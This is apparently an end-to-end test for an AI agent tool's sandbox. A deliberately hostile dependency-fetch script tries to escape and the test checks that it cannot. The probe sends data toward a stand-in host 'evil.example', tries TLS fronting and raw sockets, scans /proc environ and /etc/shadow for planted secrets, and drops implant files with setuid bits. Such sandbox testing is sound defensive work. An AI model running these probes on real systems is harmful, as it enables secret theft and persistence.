#!/usr/bin/python3
# deadline: 300
"""A hostile warm: what a package manager gone bad can reach from its jail, and what of it comes out. The warm's command
is a script of the test that tries everything and writes down what worked."""
import json
import os
import socket
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
import registries  # noqa: E402
from e2e import Place  # noqa: E402
from tap import Tap  # noqa: E402

PROBE = r"""
import glob, json, os, socket, sys
port, allowed = int(sys.argv[1]), int(sys.argv[2])
seen = {}

def attempt(name, what):
    try:
        seen[name] = repr(what())
    except Exception as e:
        seen[name] = 'failed ' + type(e).__name__ + ' ' + str(e)

def connect(host, to, family=socket.AF_INET):
    s = socket.socket(family)
    s.settimeout(3)
    s.connect((host, to))
    s.sendall(b'leak')
    return 'connected'

def ask(head):
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.settimeout(5)
    s.sendall(head)
    return s.recv(300)

def hello(name):
    import ssl
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    out = ssl.MemoryBIO(); t = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()

def front():
    s = socket.create_connection(('127.0.0.1', 3128), 5); s.settimeout(5)
    s.sendall(b'CONNECT localhost:%d HTTP/1.1\r\n\r\n' % allowed)
    first = s.recv(300)
    s.sendall(hello('evil.example'))
    return (first[:12], s.recv(300))

attempt('direct', lambda: connect('127.0.0.1', port))
attempt('direct, an address of the world', lambda: connect('192.0.2.1', 443))
attempt('direct, IPv6', lambda: connect('::1', port, socket.AF_INET6))
attempt('direct, by name', lambda: connect('localhost', port))
attempt('a name', lambda: socket.getaddrinfo('example.com', 443))
attempt('proxy, a host that is not listed', lambda: ask(b'CONNECT evil.example:443 HTTP/1.1\r\n\r\n'))
attempt('proxy, this machine', lambda: ask(b'CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n' % port))
attempt('proxy, a listed host with another port', lambda: ask(b'CONNECT localhost:%d HTTP/1.1\r\n\r\n' % port))
attempt('proxy, plain HTTP', lambda: ask(b'GET http://localhost:%d/ HTTP/1.1\r\nHost: localhost\r\n\r\n' % port))
attempt('proxy, fronting', front)
attempt('raw socket', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('packet socket', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt('abstract socket', lambda: socket.socket(socket.AF_UNIX).connect('\0agent-egress'))
attempt('another listener beside the proxy', lambda: socket.create_server(('127.0.0.1', 3128)))
seen['environment'] = sorted(os.environ)
seen['secrets'] = [k for k, v in os.environ.items() if 'sekrit' in v]
for path in glob.glob('/proc/[0-9]*/environ') + ['/etc/shadow'] + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        if b'sekrit' in open(path, 'rb').read(): seen['secrets'].append(path)
    except OSError:
        pass
seen['files'] = sorted(os.path.relpath(os.path.join(t, n), '/work') for t, _, names in os.walk('/work') for n in names)
seen['uid'] = os.getuid()
seen['fds'] = sorted(os.readlink('/proc/self/fd/' + n) for n in os.listdir('/proc/self/fd') if int(n) > 2 and os.path.exists('/proc/self/fd/' + n))
os.makedirs('out')
json.dump(seen, open('out/seen.json', 'w'))
os.makedirs(os.path.expanduser('~/.hidden'))
open(os.path.expanduser('~/.hidden/implant'), 'w').write('x')
open('/work/implant', 'w').write('x')
open('/tmp/implant', 'w').write('x')
os.chmod('out/seen.json', 0o6777)
"""
FILES = {"probe.py": PROBE, "tool.conf": "secret\n", ".npmrc": "git=./x\n", "src/a.txt": "a\n"}


def listener():
    server = socket.create_server(("127.0.0.1", 0))
    calls = []

    def serve():
        while True:
            client, _ = server.accept()
            calls.append(1)
            client.close()
    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1], calls


def layer_path(place, *names):
    layers, _ = registries.deps(place)
    return os.path.join(place.state, "store/deps", layers[0], *names)


with Tap() as t, Place() as place:
    place.limits()
    port, calls = listener()
    allowed, reached = listener()
    repo = place.repository(FILES, test="sh -c 'test -e out/seen.json && ! test -e implant && ! test -e ~/.hidden && ! test -e /tmp/implant'",
                            config=f"[fetch]\n\twarm = python3 probe.py {port} {allowed}\n\tinputs = probe.py\n\toutput = out\n")
    result = place.agent("run", "-m", "Add", "--dry-run", "--rounds", "1", "-c", f"fetch.host=localhost:{allowed}", "-c",
                         f"fetch.private=localhost:{allowed}", "--model",
                         place.recording([[("write_file", {"path": "added.txt", "content": "x\n"})]]),
                         cwd=repo, env={"NPM_TOKEN": "sekrit-1", "NPM_CONFIG__AUTHTOKEN": "sekrit-2", "MY_TOKEN": "sekrit-3"})
    if not t.equal(result.status, 0, "only the named output reaches the tests", result.text):
        sys.exit(1)
    for what in ("192.0.2.1:443 (tcp), 1 time", "example.com (name), "):
        t.contains(result.err, "denied, around the proxy: " + what, f"what it tried around the proxy is told: {what}")
    with open(layer_path(place, "work/out/seen.json")) as f:
        seen = json.load(f)
    for name in ("direct", "direct, an address of the world", "direct, IPv6", "direct, by name", "a name", "raw socket",
                 "packet socket", "abstract socket", "another listener beside the proxy"):
        t.ok(seen[name].startswith("failed "), f"{name}: fails", seen[name])
    for name in ("proxy, a host that is not listed", "proxy, this machine", "proxy, a listed host with another port",
                 "proxy, plain HTTP"):
        t.ok(" 403 " in seen[name], f"{name}: refused", seen[name])
    t.ok("200" in seen["proxy, fronting"] and r"\x15\x03\x03\x00\x02\x02" in seen["proxy, fronting"],
         "proxy, a TLS hello for another host: refused", seen["proxy, fronting"])
    t.equal(calls, [], "the host's own server was never reached")
    t.equal(seen["secrets"], [], "no secret of the caller is in reach")
    t.equal([n for n in seen["environment"] if "TOKEN" in n.upper() or "SECRET" in n.upper()], [],
            "no variable of the caller's is in the environment")
    t.equal(seen["files"], ["probe.py"], "of the repository there are the inputs and nothing else")
    t.equal(seen["fds"], [], "no descriptor beside the standard three")
    t.equal(seen["uid"] == 0, False, "the uid is not 0")
    info = os.stat(layer_path(place, "work/out/seen.json"))
    t.equal(oct(info.st_mode & 0o7777), oct(0o755), "set-id and foreign write bits are taken away")
    implants = [os.path.join(top, n) for top, _, names in os.walk(place.state) for n in names if n == "implant"]
    t.equal(implants, [], "what is not a named output is gone")
    events = [e for e in place.events() if e.get("event") == "egress"]
    denied = [e for e in events if not e.get("allowed")]
    t.ok(len(denied) >= 5 and all(e.get("why") for e in denied), "each refusal is in the record, with its reason", events)
    t.ok("sekrit" not in json.dumps(place.events()), "no secret in the record")
